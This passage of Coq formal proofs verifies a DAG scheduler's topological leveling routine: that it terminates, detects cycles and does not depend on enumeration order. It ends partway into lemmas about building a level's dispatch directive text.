    destruct (Nodes s !! x) eqn:E; [eauto|].
    apply Habs in E. apply Hnew in Hx. lia.
  - intros x. rewrite HP', Hdeg. intros [Hx|Hx]%elem_of_app.
    + apply Hused in Hx. lia.
    + apply Hmem in Hx. lia.
  - intros x Hsx Hnx. rewrite HP' in Hnx. rewrite Hdeg.
    assert (0 < inDegOf inDeg x).
    { apply Hwait; [done|]. intros Hin. apply Hnx, elem_of_app. by left. }
    destruct (decide (inDegOf inDeg x <= Z.of_nat (occ x B))); [|lia].
    exfalso. apply Hnx, elem_of_app. right. apply Hmem. lia.
  - intros x Hx. rewrite Hdeg. apply Habs in Hx. lia.
  - rewrite Hproc, HP', length_app, Hp. fold P. lia.
  - intros k lv [Hk|[Hk Hlk]]%lookup_app_Some.
    + destruct (Hlv k lv Hk) as (Hi & Hn & Hf). split; [done|]. split; [done|].
      intros id Hid. destruct (Hf id Hid) as (n & Hn' & Hl).
      exists n. split; [|done]. rewrite Hst, bool_decide_eq_false_2; [done|].
      intros Hq. apply (Hfresh id Hq). apply elem_of_placed. eauto.
    + destruct (k - length levels)%nat eqn:Ek; [|by destruct n].
      injection Hlk as <-. assert (k = length levels) as -> by lia.
      simpl. rewrite Hnodes. split; [done|]. split; [done|].
      intros id Hid.
      assert (is_Some (Nodes st !! id)) as [n Hn].
      { destruct Hfr as (_ & _ & _ & _ & e). specialize (e id).
        destruct (Hstored id) as [n0 Hn0]; [apply elem_of_app; by right|].
        rewrite Hn0 in e. destruct (Nodes st !! id); [eauto|done]. }
      exists (withLevel (Z.of_nat (length levels)) n).
      split; [|done]. by rewrite Hst, bool_decide_eq_true_2, Hn.
  - rewrite HP', length_app. fold P in Hfuel.
    destruct queue; [done|]. simpl. lia.
Qed.

Lemma onlyLevels_size s st : onlyLevels s st -> size (Nodes st) = size (Nodes s).
Proof.
  intros (_ & _ & _ & _ & e). rewrite <- !size_dom. f_equal. apply set_eq.
  intros x. rewrite !elem_of_dom. specialize (e x).
  destruct (Nodes st !! x), (Nodes s !! x); simpl in e; try done; split; eauto.
Qed.

Lemma queue_bound s fuel st inDeg queue levels processed :
  QueueInv s fuel st inDeg queue levels processed ->
  (length (placed levels) + length queue <= size (Nodes s))%nat.
Proof.
  intros Hinv. rewrite <- length_app, <- size_dom.
  apply NoDup_length_le_size; [apply (qi_nodup _ _ _ _ _ _ _ Hinv)|].
  intros x Hx. apply elem_of_dom. by apply (qi_stored _ _ _ _ _ _ _ Hinv).
Qed.

(** The loop returns from every state of the invariant, with an outcome
    that is not the nil dereference; a further property [Extra] of the loop
    variables that every wave preserves holds at the end as well. *)
Lemma topoLoop_any s
    (Extra : gmap string Z -> list string -> list ParallelLevel -> Prop) :
  (forall fuel st inDeg queue levels processed w,
     queue <> [] -> QueueInv s (S fuel) st inDeg queue levels processed ->
     Extra inDeg queue levels ->
     forEach (processNode (Z.of_nat (length levels)))
             (mkWave st inDeg [] processed []) queue = Some w ->
     Extra (wInDeg w) (wNext w)
           (levels ++ [mkLevel (Z.of_nat (length levels)) (wNodes w)])) ->
  forall fuel st inDeg queue levels processed,
    QueueInv s fuel st inDeg queue levels processed ->
    Extra inDeg queue levels ->
    exists out, topoLoop fuel st inDeg queue levels processed = Some out /\
      TopoOutcomeOK s out /\
      forall levels' s', out = TopoOK levels' s' ->
        exists inDeg', Extra inDeg' [] levels'.
Proof.
  intros Hextra. induction fuel as [|fuel IH];
    intros st inDeg queue levels processed Hinv Hex.
  { pose proof (qi_fuel _ _ _ _ _ _ _ Hinv).
    pose proof (queue_bound _ _ _ _ _ _ _ Hinv). lia. }
  destruct queue as [|q Q]; cbn [topoLoop].
  - pose proof (queue_bound _ _ _ _ _ _ _ Hinv) as Hb. simpl in Hb.
    pose proof (qi_frame _ _ _ _ _ _ _ Hinv) as Hfr.
    pose proof (qi_nodup _ _ _ _ _ _ _ Hinv) as Hnd. rewrite app_nil_r in Hnd.
    pose proof (qi_processed _ _ _ _ _ _ _ Hinv) as Hp.
    rewrite (onlyLevels_size s st Hfr).
    case_bool_decide as Hne.
    + eexists. split; [done|]. split; [|done]. simpl.
      split; [done|]. split; [apply (qi_max _ _ _ _ _ _ _ Hinv)|].
      split; [done|]. lia.
    + eexists. split; [done|]. split.
      * simpl. split.
        { destruct Hfr as (a & b & c & d & e). by repeat split. }
        split; [done|]. split; [done|]. split.
        { intros id. split.
          - intros Hid. apply (qi_stored _ _ _ _ _ _ _ Hinv), elem_of_app. by left.
          - intros Hid%elem_of_dom.
            assert (list_to_set (placed levels) = dom (Nodes s)) as E.
            { apply set_subseteq_size_eq.
              - intros x Hx%elem_of_list_to_set. apply elem_of_dom.
                apply (qi_stored _ _ _ _ _ _ _ Hinv), elem_of_app. by left.
              - rewrite size_list_to_set by done. rewrite size_dom. lia. }
            rewrite <- E in Hid. by apply elem_of_list_to_set in Hid. }
        intros k lv Hk.
        destruct (qi_levels _ _ _ _ _ _ _ Hinv k lv Hk) as (? & ? & ?). done.
      * intros levels' s' [= <- <-]. by exists inDeg.
  - destruct (wave_returns (Z.of_nat (length levels)) (q :: Q)
                (mkWave st inDeg [] processed [])) as [w Hw].
    { intros x Hx. cbn [wState].
      destruct (qi_stored _ _ _ _ _ _ _ Hinv x) as [n0 Hn0];
        [apply elem_of_app; by right|].
      destruct (qi_frame _ _ _ _ _ _ _ Hinv) as (_ & _ & _ & _ & e).
      specialize (e x). rewrite Hn0 in e.
      destruct (Nodes st !! x); [eauto|done]. }
    rewrite Hw. apply IH.
    + by apply (queue_step s fuel st inDeg (q :: Q) levels processed w).
    + by apply (Hextra fuel st inDeg (q :: Q) levels processed w).
Qed.

Lemma QueueInv_initial s order :
  keyOrder s order ->
  QueueInv s (S (size (Nodes s))) s
    ((fun n => Z.of_nat (length (DependsOn n))) <$> Nodes s)
    (filter (fun id =>
       ((fun n => Z.of_nat (length (DependsOn n))) <$> Nodes s) !! id = Some 0)
       order) [] 0.
Proof.
  intros [Hnd Hkeys].
  set (inDeg := (fun n => Z.of_nat (length (DependsOn n))) <$> Nodes s).
  assert (Hdeg : forall x, inDegOf inDeg x =
            default 0 ((fun n => Z.of_nat (length (DependsOn n))) <$> Nodes s !! x)).
  { intros x. unfold inDegOf, inDeg. by rewrite lookup_fmap. }
  split.
  - by repeat split.
  - done.
  - simpl. by apply NoDup_filter.
  - simpl. intros x [Hx _]%list_elem_of_filter. unfold inDeg in Hx.
    rewrite lookup_fmap in Hx. destruct (Nodes s !! x); [eauto|done].
  - simpl. intros x [Hx _]%list_elem_of_filter. unfold inDegOf. by rewrite Hx.
  - simpl. intros x [n Hn] Hx. rewrite Hdeg, Hn. simpl.
    destruct (decide (length (DependsOn n) = 0%nat)) as [E|]; [|lia].
    exfalso. apply Hx, list_elem_of_filter. split.
    + unfold inDeg. rewrite lookup_fmap, Hn. simpl. by rewrite E.
    + apply Hkeys, elem_of_dom. eauto.
  - intros x Hx. rewrite Hdeg, Hx. done.
  - done.
  - intros k lv Hk. by rewrite lookup_nil in Hk.
  - simpl. lia.
Qed.

(** X9. On every state, whatever its adjacency lists hold, and for every
    order in which the runtime enumerates the map, [TopoLevels] returns
    and never dereferences a nil node. It returns either levels, none of
    them empty, that hold every stored id exactly once, each node
    carrying the index of its level, with [MaxLevel] the number of levels
    minus one; or the cycle error with fewer nodes processed than are
    stored and [MaxLevel] untouched. In both cases nothing but [Level]
    fields and [MaxLevel] has changed. *)
Theorem TopoLevels_returns (s : DAGState) (order : list string) :
  keyOrder s order ->
  exists out, TopoLevels order s = Some out /\ TopoOutcomeOK s out.
Proof.
  intros Hk. unfold TopoLevels.
  destruct (topoLoop_any s (fun _ _ _ => True)) with
    (fuel := S (size (Nodes s))) (st := s)
    (inDeg := (fun n => Z.of_nat (length (DependsOn n))) <$> Nodes s)
    (queue := filter (fun id =>
       ((fun n => Z.of_nat (length (DependsOn n))) <$> Nodes s) !! id = Some 0)
       order) (levels := @nil ParallelLevel) (processed := 0)
    as (out & Hout & Hok & _); [done | by apply QueueInv_initial | done |].
  by exists out.
Qed.

(** *** TopoLevels on a state with a cycle *)

Lemma occ_flat_blocks_consistent s Q x nx :
  Consistent s -> NoDup Q -> (forall q, q ∈ Q -> is_Some (Nodes s !! q)) ->
  Nodes s !! x = Some nx ->
  occ x (flat_map (blocksOf s) Q) =
  countIf (fun d => bool_decide (d ∈ Q)) (DependsOn nx).
Proof.
  intros Hc Hnd Hst Hx. induction Hnd as [|q Q Hq Hnd IH]; simpl.
  - by rewrite countIf_in_nil.
  - rewrite occ_app. rewrite IH; [|intros q' Hq'; apply Hst; by right].
    rewrite countIf_in_cons by done. f_equal.
    destruct (Hst q ltac:(left)) as [nq Hnq].
    unfold blocksOf. rewrite Hnq. simpl. by eapply cs_agree.
Qed.

Lemma onlyLevels_sameGraph s st : onlyLevels s st -> sameGraph s st.
Proof.
  intros (_ & _ & _ & _ & H) id. specialize (H id).
  destruct (Nodes st !! id) as [n'|], (Nodes s !! id) as [n|]; simpl in *;
    try done.
  assert (E : withLevel 0 n' = withLevel 0 n) by congruence.
  split; f_equal.
  - by apply (f_equal Blocks) in E.
  - by apply (f_equal DependsOn) in E.
Qed.

Lemma count_step s fuel st inDeg queue levels processed w :
  Consistent s -> queue <> [] ->
  QueueInv s (S fuel) st inDeg queue levels processed ->
  CountInv s inDeg queue levels ->
  forEach (processNode (Z.of_nat (length levels)))
          (mkWave st inDeg [] processed []) queue = Some w ->
  CountInv s (wInDeg w) (wNext w)
           (levels ++ [mkLevel (Z.of_nat (length levels)) (wNodes w)]).
Proof.
  intros Hc Hne Hinv [Hin Hqu Hlv] Hw.
  apply wave_spec in Hw as (Hrel & Hnodes & Hproc & Hst).
  cbn [wState wInDeg wNext wNodes wProcessed] in *. simpl in Hnodes.
  pose proof (onlyLevels_sameGraph _ _ (qi_frame _ _ _ _ _ _ _ Hinv)) as Hg.
  rewrite (flat_map_ext _ (blocksOf s)) in Hrel
    by (intros a; by apply sameGraph_blocksOf).
  set (B := flat_map (blocksOf s) queue) in *.
  destruct (releaseBlocked_fold B inDeg []) as (Hdeg & added & Hadd & Hnd & Hmem).
  rewrite <- Hrel in Hdeg, Hadd. simpl in Hdeg, Hadd. subst added.
  pose proof (qi_nodup _ _ _ _ _ _ _ Hinv) as (_ & Hdisj & HndQ)%NoDup_app.
  set (P := placed levels) in *.
  assert (HP' : placed (levels ++ [mkLevel (Z.of_nat (length levels)) (wNodes w)])
                = P ++ queue) by (by rewrite placed_app, Hnodes).
  assert (Hfresh : forall x, x ∈ queue -> x ∉ P).
  { intros x Hq HP. by apply (Hdisj x). }
  assert (Hcount : forall x nx, Nodes s !! x = Some nx ->
    inDegOf inDeg x =
      Z.of_nat (countIf (fun d => bool_decide (d ∈ queue)) (DependsOn nx)
                + countIf (fun d => bool_decide (d ∉ P ++ queue)) (DependsOn nx)) /\
    occ x B = countIf (fun d => bool_decide (d ∈ queue)) (DependsOn nx)).
  { intros x nx Hx. split.
    - rewrite (Hin x nx Hx). by rewrite (countIf_not_in_app P queue).
    - apply occ_flat_blocks_consistent; [done|done| |done].
      intros q Hq. apply (qi_stored _ _ _ _ _ _ _ Hinv), elem_of_app. by right. }
  split.
  - intros x nx Hx. rewrite HP', Hdeg.
    destruct (Hcount x nx Hx) as [-> ->]. lia.
  - intros x nx d Hx Hnx Hd. rewrite HP'.
    apply Hmem in Hx. destruct (Hcount x nx Hnx) as [E1 E2].
    rewrite E1, E2 in Hx.
    assert (countIf (fun d => bool_decide (d ∉ P ++ queue)) (DependsOn nx) = O)
      as Hz by lia.
    pose proof (proj1 (countIf_zero _ _) Hz d Hd) as Hf.
    apply bool_decide_eq_false in Hf. by apply dec_stable in Hf.
  - intros k lv x nx d [Hk|[Hk Hlk]]%lookup_app_Some Hx Hnx Hd.
    + rewrite placedBefore_app by (apply lookup_lt_Some in Hk; lia).
      by eapply Hlv.
    + destruct (k - length levels)%nat eqn:Ek; [|by destruct n].
      injection Hlk as <-. assert (k = length levels) as -> by lia.
      rewrite placedBefore_app, placedBefore_length by lia.
      simpl in Hx. rewrite Hnodes in Hx. by eapply Hqu.
Qed.

Lemma CountInv_initial s order :
  CountInv s ((fun n => Z.of_nat (length (DependsOn n))) <$> Nodes s)
    (filter (fun id =>
       ((fun n => Z.of_nat (length (DependsOn n))) <$> Nodes s) !! id = Some 0)
       order) [].
Proof.
  split.
  - intros x nx Hx. unfold inDegOf. rewrite lookup_fmap, Hx. simpl.
    by rewrite <- countIf_all.
  - intros x nx d [Hx _]%list_elem_of_filter Hnx Hd.
    rewrite lookup_fmap, Hnx in Hx. simpl in Hx.
    destruct (DependsOn nx); [by apply elem_of_nil in Hd | simpl in Hx].
    injection Hx as Hx. lia.
  - intros k lv x nx d Hk. by rewrite lookup_nil in Hk.
Qed.

(** Along a chain of dependencies the index of the level goes down. *)
Lemma level_lower s inDeg levels a b :
  CountInv s inDeg [] levels -> tc (depRel s) a b ->
  forall k lv, levels !! k = Some lv -> b ∈ LevelNodes lv ->
    exists j lj, (j < k)%nat /\ levels !! j = Some lj /\ a ∈ LevelNodes lj.
Proof.
  intros [_ _ Hlv]. induction 1 as [a b (nb & Hb & Ha)|a c b (nc & Hc & Ha) _ IH];
    intros k lv Hk Hin.
  - apply elem_of_placedBefore. by eapply Hlv.
  - destruct (IH k lv Hk Hin) as (j & lj & Hj & Hlj & Hcj).
    assert (a ∈ placedBefore levels j) as (i & li & Hi & Hli & Hai)%elem_of_placedBefore
      by (by eapply Hlv).
    exists i, li. split; [lia|done].
Qed.

Lemma no_cycle_in_levels s inDeg levels :
  CountInv s inDeg [] levels ->
  forall k x lv, levels !! k = Some lv -> x ∈ LevelNodes lv ->
    ~ tc (depRel s) x x.
Proof.
  intros Hci k. induction (lt_wf k) as [k _ IH]. intros x lv Hk Hx Hcyc.
  destruct (level_lower s inDeg levels x x Hci Hcyc k lv Hk Hx)
    as (j & lj & Hj & Hlj & Hxj).
  by apply (IH j Hj x lj).
Qed.

(** X10. When the adjacency lists are consistent and some node depends on
    itself through a chain of dependencies, [TopoLevels] returns the cycle
    error, for every order of enumeration: it has processed fewer nodes
    than are stored, [MaxLevel] is untouched, and nothing but [Level]
    fields has changed. *)
Theorem TopoLevels_reports_cycle (s : DAGState) (order : list string) (x : string) :
  Consistent s -> keyOrder s order -> tc (depRel s) x x ->
  exists processed s',
    TopoLevels order s
      = Some (TopoCycle processed (Z.of_nat (size (Nodes s))) s') /\
    0 <= processed < Z.of_nat (size (Nodes s)) /\
    onlyLevels s s' /\ MaxLevel s' = MaxLevel s.
Proof.
  intros Hc Hk Hcyc. unfold TopoLevels.
  destruct (topoLoop_any s (CountInv s)) with
    (fuel := S (size (Nodes s))) (st := s)
    (inDeg := (fun n => Z.of_nat (length (DependsOn n))) <$> Nodes s)
    (queue := filter (fun id =>
       ((fun n => Z.of_nat (length (DependsOn n))) <$> Nodes s) !! id = Some 0)
       order) (levels := @nil ParallelLevel) (processed := 0)
    as (out & Hout & Hok & Hextra).
  - intros fuel st inDeg queue levels processed w Hne Hinv Hci Hw.
    by apply (count_step s fuel st inDeg queue levels processed w).
  - by apply QueueInv_initial.
  - apply CountInv_initial.
  - rewrite Hout. destruct out as [levels s'|processed total s'|]; [|  |done].
    + exfalso. destruct (Hextra levels s' eq_refl) as [inDeg' Hci].
      destruct Hok as (_ & _ & _ & Hall & _).
      assert (is_Some (Nodes s !! x)) as Hx.
      { assert (exists y, depRel s y x) as (y & nx & Hnx & _); [|eauto].
        clear -Hcyc. induction Hcyc as [a b H|a c b _ _ IH]; eauto. }
      apply Hall, elem_of_placed in Hx as (k & lv & Hklv & Hin).
      by apply (no_cycle_in_levels s inDeg' levels Hci k x lv).
    + destruct Hok as (Hfr & Hmax & -> & Hp). by exists processed, s'.
Qed.

Lemma loopPQ_consistent : Consistent loopPQ.
Proof.
  assert (H : forall id n, Nodes loopPQ !! id = Some n ->
    (id = "p" /\ DependsOn n = ["q"] /\ Blocks n = ["q"]) \/
    (id = "q" /\ DependsOn n = ["p"] /\ Blocks n = ["p"])).
  { intros id n. unfold loopPQ. cbn [Nodes].
    rewrite !lookup_insert_Some, lookup_empty. naive_solver. }
  assert (Hd : forall y, y = "p" \/ y = "q" -> y ∈ dom (Nodes loopPQ)).
  { intros y [-> | ->]; apply elem_of_dom; vm_compute; eauto. }
  split.
  - intros id n d [(_ & E & _)|(_ & E & _)]%H; rewrite E;
      intros ->%list_elem_of_singleton; apply Hd; auto.
  - intros id n d [(_ & _ & E)|(_ & _ & E)]%H; rewrite E;
      intros ->%list_elem_of_singleton; apply Hd; auto.
  - intros x y nx ny [(-> & _ & E1)|(-> & _ & E1)]%H
                     [(-> & E2 & _)|(-> & E2 & _)]%H; by rewrite E1, E2.
Qed.

Lemma loopPQ_keyOrder : keyOrder loopPQ ["p"; "q"].
Proof.
  split.
  - repeat (constructor; [set_solver|]). constructor.
  - intros id. replace (dom (Nodes loopPQ))
      with ({["p"; "q"]} : gset string) by (vm_compute; reflexivity).
    set_solver.
Qed.

Lemma loopPQ_cycle : tc (depRel loopPQ) "p" "p".
Proof.
  apply tc_l with "q"; [|apply tc_once]; eexists;
    (split; [vm_compute; reflexivity | simpl; left]).
Qed.

Lemma TopoLevels_reports_cycle_witness :
  exists processed s',
    TopoLevels ["p"; "q"] loopPQ
      = Some (TopoCycle processed (Z.of_nat (size (Nodes loopPQ))) s') /\
    0 <= processed < Z.of_nat (size (Nodes loopPQ)) /\
    onlyLevels loopPQ s' /\ MaxLevel s' = MaxLevel loopPQ.
Proof.
  apply (TopoLevels_reports_cycle loopPQ ["p"; "q"] "p").
  - exact loopPQ_consistent.
  - exact loopPQ_keyOrder.
  - exact loopPQ_cycle.
Defined.

Lemma TopoLevels_returns_witness :
  exists out, TopoLevels ["a"; "b"; "c"; "d"; "e"] diamond = Some out /\
              TopoOutcomeOK diamond out.
Proof.
  apply (TopoLevels_returns diamond ["a"; "b"; "c"; "d"; "e"]).
  exact diamond_keyOrder.
Defined.

(** *** The levels do not depend on the order of enumeration *)

Lemma KahnInv_initial s order :
  keyOrder s order ->
  KahnInv s (S (size (Nodes s))) s
    ((fun n => Z.of_nat (length (DependsOn n))) <$> Nodes s)
    (filter (fun id =>
       ((fun n => Z.of_nat (length (DependsOn n))) <$> Nodes s) !! id = Some 0)
       order) [] 0.
Proof.
  intros [Hnd Hkeys].
  assert (Hdeg : forall x,
    ((fun n => Z.of_nat (length (DependsOn n))) <$> Nodes s) !! x = Some 0 <->
    exists n, Nodes s !! x = Some n /\ DependsOn n = []).
  { intros x. rewrite lookup_fmap.
    destruct (Nodes s !! x) as [n|]; simpl; [|naive_solver].
    split.
    - intros [= H0]. exists n. split; [done|].
      destruct (DependsOn n); [done | simpl in H0; lia].
    - intros (n' & [= <-] & ->). done. }
  split.
  - apply sameGraph_refl.
  - constructor.
  - by apply NoDup_filter.
  - intros x. rewrite list_elem_of_filter, Hdeg, Hkeys. split.
    + intros [(n & Hn & Hd) _]. exists n. split; [done|].
      split; [apply not_elem_of_nil|]. rewrite Hd. by intros d ?%elem_of_nil.
    + intros (n & Hn & _ & Hd). split; [|apply elem_of_dom; eauto].
      exists n. split; [done|].
      destruct (DependsOn n) as [|d l]; [done|].
      specialize (Hd d ltac:(left)). by apply elem_of_nil in Hd.
  - intros x nx Hx. unfold inDegOf. rewrite lookup_fmap, Hx. simpl.
    by rewrite <- countIf_all.
  - done.
  - intros k lv Hk. by rewrite lookup_nil in Hk.
  - intros k lv id Hk. by rewrite lookup_nil in Hk.
  - simpl. lia.
Qed.

Lemma TopoLevels_both s order :
  Constructed s -> keyOrder s order ->
  exists levels s',
    TopoLevels order s = Some (TopoOK levels s') /\
    TopoPost s levels s' /\ TopoOutcomeOK s (TopoOK levels s').
Proof.
  intros Hc Hk. pose proof (Constructed_WellFormed s Hc) as Hwf.
  destruct (topoLoop_spec s Hwf _ _ _ _ _ _ (KahnInv_initial s order Hk))
    as (levels & s' & Hrun & Hpost).
  destruct (topoLoop_any s (fun _ _ _ => True)) with
    (fuel := S (size (Nodes s))) (st := s)
    (inDeg := (fun n => Z.of_nat (length (DependsOn n))) <$> Nodes s)
    (queue := filter (fun id =>
       ((fun n => Z.of_nat (length (DependsOn n))) <$> Nodes s) !! id = Some 0)
       order) (levels := @nil ParallelLevel) (processed := 0)
    as (out & Hout & Hok & _); [done | by apply QueueInv_initial | done |].
  rewrite Hrun in Hout. injection Hout as <-.
  exists levels, s'. done.
Qed.

Lemma isWave_ext s (b1 b2 : list string) id :
  (forall x, x ∈ b1 <-> x ∈ b2) -> isWave s b1 id <-> isWave s b2 id.
Proof.
  intros H. unfold isWave. split; intros (n & Hn & Hnot & Hd); exists n;
    (split; [done|]); (split; [by rewrite ?H, <- ?H in *|]);
    intros d Hin; apply H; by apply Hd.
Qed.

(** Two runs agree on the members of every level that both have. *)
Lemma levels_same_members s l1 s1 l2 s2 :
  TopoPost s l1 s1 -> TopoPost s l2 s2 ->
  forall k a b, l1 !! k = Some a -> l2 !! k = Some b ->
    forall x, x ∈ LevelNodes a <-> x ∈ LevelNodes b.
Proof.
  intros (_ & _ & H1 & _) (_ & _ & H2 & _) k.
  induction (lt_wf k) as [k _ IH]. intros a b Ha Hb x.
  rewrite (proj2 (H1 k a Ha) x), (proj2 (H2 k b Hb) x).
  apply isWave_ext. intros y. rewrite !elem_of_placedBefore.
  split.
  - intros (j & lj & Hj & Hlj & Hy).
    destruct (lookup_lt_is_Some_2 l2 j) as [lj' Hlj'];
      [apply lookup_lt_Some in Hb; lia|].
    exists j, lj'. split; [done|]. split; [done|].
    by apply (IH j Hj lj lj').
  - intros (j & lj' & Hj & Hlj' & Hy).
    destruct (lookup_lt_is_Some_2 l1 j) as [lj Hlj];
      [apply lookup_lt_Some in Ha; lia|].
    exists j, lj. split; [done|]. split; [done|].
    by apply (IH j Hj lj lj').
Qed.

Lemma levels_not_longer s l1 s1 l2 s2 :
  TopoPost s l1 s1 -> TopoPost s l2 s2 ->
  TopoOutcomeOK s (TopoOK l2 s2) ->
  (length l2 <= length l1)%nat.
Proof.
  intros Hp1 Hp2 (_ & _ & _ & _ & Hne).
  destruct (decide (length l2 <= length l1)%nat) as [|Hlt]; [done|exfalso].
  destruct (lookup_lt_is_Some_2 l2 (length l1)) as [b Hb]; [lia|].
  destruct (Hne _ _ Hb) as (_ & Hnonempty & _).
  destruct (LevelNodes b) as [|x rest] eqn:Eb; [done|].
  pose proof Hp2 as (_ & _ & H2 & _).
  assert (Hx : x ∈ LevelNodes b) by (rewrite Eb; left).
  apply (proj2 (H2 _ _ Hb)) in Hx as (n & Hn & Hnot & _).
  apply Hnot. pose proof Hp1 as (_ & _ & _ & Hall).
  destruct (Hall x n Hn) as (k & lk & _ & Hk & Hin & _).
  destruct (lookup_lt_is_Some_2 l2 k) as [lk' Hk'];
    [apply lookup_lt_Some in Hk; lia|].
  apply elem_of_placedBefore. exists k, lk'.
  split; [by apply lookup_lt_Some in Hk|]. split; [done|].
  by apply (levels_same_members s l1 s1 l2 s2 Hp1 Hp2 k lk lk').
Qed.

Lemma NoDup_level levels k lv :
  NoDup (placed levels) -> levels !! k = Some lv -> NoDup (LevelNodes lv).
Proof.
  revert k. induction levels as [|l0 levels IH]; intros k Hnd Hk; [done|].
  unfold placed in Hnd. cbn [fmap list_fmap concat] in Hnd.
  apply NoDup_app in Hnd as (H0 & _ & Hrest).
  destruct k as [|k]; [by injection Hk as <-|]. by apply (IH k).
Qed.

Lemma withLevel_Level (n : Node) : withLevel (Level n) (withLevel 0 n) = n.
Proof. by destruct n. Qed.

(** X11. On a constructed state the result of [TopoLevels] does not
    depend on the order in which the runtime enumerates the node map: for
    any two orders the levels are as many, level by level they hold the
    same nodes up to their order within the level, and the state that the
    call leaves is the same. *)
Theorem TopoLevels_order_independent (s : DAGState) (order1 order2 : list string) :
  Constructed s -> keyOrder s order1 -> keyOrder s order2 ->
  exists levels1 levels2 s',
    TopoLevels order1 s = Some (TopoOK levels1 s') /\
    TopoLevels order2 s = Some (TopoOK levels2 s') /\
    Forall2 (fun a b => LevelIndex a = LevelIndex b /\
                        LevelNodes a ≡ₚ LevelNodes b) levels1 levels2.
Proof.
  intros Hc Hk1 Hk2.
  destruct (TopoLevels_both s order1 Hc Hk1) as (l1 & s1 & Hr1 & Hp1 & Hok1).
  destruct (TopoLevels_both s order2 Hc Hk2) as (l2 & s2 & Hr2 & Hp2 & Hok2).
  pose proof (levels_not_longer s l1 s1 l2 s2 Hp1 Hp2 Hok2) as Hle1.
  pose proof (levels_not_longer s l2 s2 l1 s1 Hp2 Hp1 Hok1) as Hle2.
  assert (Hlen : length l1 = length l2) by lia.
  pose proof (levels_same_members s l1 s1 l2 s2 Hp1 Hp2) as Hmem.
  assert (s1 = s2) as <-.
  { destruct Hok1 as ((a1 & b1 & c1 & d1 & e1) & m1 & _).
    destruct Hok2 as ((a2 & b2 & c2 & d2 & e2) & m2 & _).
    assert (HN : Nodes s1 = Nodes s2).
    { apply map_eq. intros x. specialize (e1 x). specialize (e2 x).
      destruct (Nodes s !! x) as [n|] eqn:Hn.
      - pose proof Hp1 as (_ & _ & _ & Hall1).
        pose proof Hp2 as (_ & _ & _ & Hall2).
        destruct (Hall1 x n Hn) as (k1 & lk1 & n1 & Hk1' & Hin1 & Hn1 & Hl1).
        destruct (Hall2 x n Hn) as (k2 & lk2 & n2 & Hk2' & Hin2 & Hn2 & Hl2).
        rewrite Hn1, Hn2 in *. simpl in e1, e2.
        assert (k1 = k2) as <-.
        { destruct (lookup_lt_is_Some_2 l2 k1) as [lk1' Hk1''];
            [apply lookup_lt_Some in Hk1'; lia|].
          apply (TopoPost_level_unique s l2 s2 k1 k2 lk1' lk2 x Hp2);
            [done| |done|done].
          by apply (Hmem k1 lk1 lk1'). }
        f_equal. rewrite <- (withLevel_Level n1), <- (withLevel_Level n2).
        rewrite Hl1, Hl2. congruence.
      - simpl in e1, e2.
        destruct (Nodes s1 !! x), (Nodes s2 !! x); done. }
    destruct s1, s2. simpl in *. subst. f_equal. lia. }
  exists l1, l2, s1. split; [done|]. split; [done|].
  apply Forall2_same_length_lookup. split; [done|].
  intros i a b Ha Hb. split.
  - pose proof Hp1 as (_ & _ & H1 & _). pose proof Hp2 as (_ & _ & H2 & _).
    rewrite (proj1 (H1 i a Ha)), (proj1 (H2 i b Hb)). done.
  - apply NoDup_Permutation.
    + destruct Hok1 as (_ & _ & Hnd & _). by eapply NoDup_level.
    + destruct Hok2 as (_ & _ & Hnd & _). by eapply NoDup_level.
    + intros x. by apply (Hmem i a b).
Qed.

Lemma diamond_keyOrder_rev : keyOrder diamond ["e"; "d"; "c"; "b"; "a"].
Proof.
  split.
  - repeat (constructor; [set_solver|]). constructor.
  - intros id. replace (dom (Nodes diamond))
      with ({["a"; "b"; "c"; "d"; "e"]} : gset string) by (vm_compute; reflexivity).
    set_solver.
Qed.

Lemma TopoLevels_order_independent_witness :
  exists levels1 levels2 s',
    TopoLevels ["a"; "b"; "c"; "d"; "e"] diamond = Some (TopoOK levels1 s') /\
    TopoLevels ["e"; "d"; "c"; "b"; "a"] diamond = Some (TopoOK levels2 s') /\
    Forall2 (fun a b => LevelIndex a = LevelIndex b /\
                        LevelNodes a ≡ₚ LevelNodes b) levels1 levels2.
Proof.
  apply (TopoLevels_order_independent diamond).
  - exact diamond_constructed.
  - exact diamond_keyOrder.
  - exact diamond_keyOrder_rev.
Defined.

End DagTheory.

Module DirectiveTheory.
Import Dag GoStrings StringsTheory.

(** *** directive.go *)

Lemma fold_left_taskBlock (nodes : list Node) (init : string) :
  fold_left (fun out n => out ++ taskBlock n) nodes init = init ++ taskBlocks nodes.
Proof.
  revert init. induction nodes as [|n nodes IH]; intros init; simpl.
  - by rewrite append_nil_r.
  - by rewrite IH, append_assoc.
Qed.

Lemma taskBlock_ends (n : Node) : exists p, taskBlock n = p ++ lf ++ lf.
Proof.
  unfold taskBlock. eexists. rewrite <- !append_assoc. reflexivity.
Qed.

Lemma taskBlocks_ends (nodes : list Node) :
  nodes <> [] -> exists p, taskBlocks nodes = p ++ lf ++ lf.
Proof.
  induction nodes as [|n nodes IH]; [done|]. intros _. simpl.
  destruct nodes as [|m nodes].
  - destruct (taskBlock_ends n) as [p Hp]. exists p.
    simpl. by rewrite append_nil_r.
  - destruct IH as [p Hp]; [done|]. exists (taskBlock n ++ p).
    by rewrite Hp, append_assoc.
Qed.

Lemma taskBlocks_elem (nodes : list Node) (n : Node) :
  n ∈ nodes -> exists a b, taskBlocks nodes = a ++ taskBlock n ++ b.
Proof.
  induction nodes as [|m nodes IH]; [by intros ?%elem_of_nil|].
  intros [->|Hin]%elem_of_cons; simpl.
  - by exists "", (taskBlocks nodes).
  - destruct (IH Hin) as (a & b & ->). exists (taskBlock m ++ a), b.
    by rewrite append_assoc.
Qed.

Lemma BuildParallelDispatch_eq dagID level nodes maxLevel :
  BuildParallelDispatch dagID level nodes maxLevel =
  (dispatchHeader dagID level maxLevel (length nodes) ++ taskBlocks nodes)
  ++ (if level <? maxLevel then afterLevel else "").
Proof.
  unfold BuildParallelDispatch, dispatchHeader. cbv zeta.
  rewrite fold_left_taskBlock.
  destruct (level <? maxLevel); [done | by rewrite append_nil_r].
Qed.

(** X12. The directive for a level starts with the scheduler header that
    names the DAG and the level, gives the number of nodes, and holds the
    task block of every node of the level. It ends with the note on the
    next level exactly when the level is below [maxLevel]. *)
Theorem BuildParallelDispatch_lists_level (dagID : string) (level : Z)
    (nodes : list Node) (maxLevel : Z) :
  let out := BuildParallelDispatch dagID level nodes maxLevel in
  HasPrefix out ("[DAG_SCHEDULER]" ++ lf ++ "dag_id: " ++ dagID ++ lf
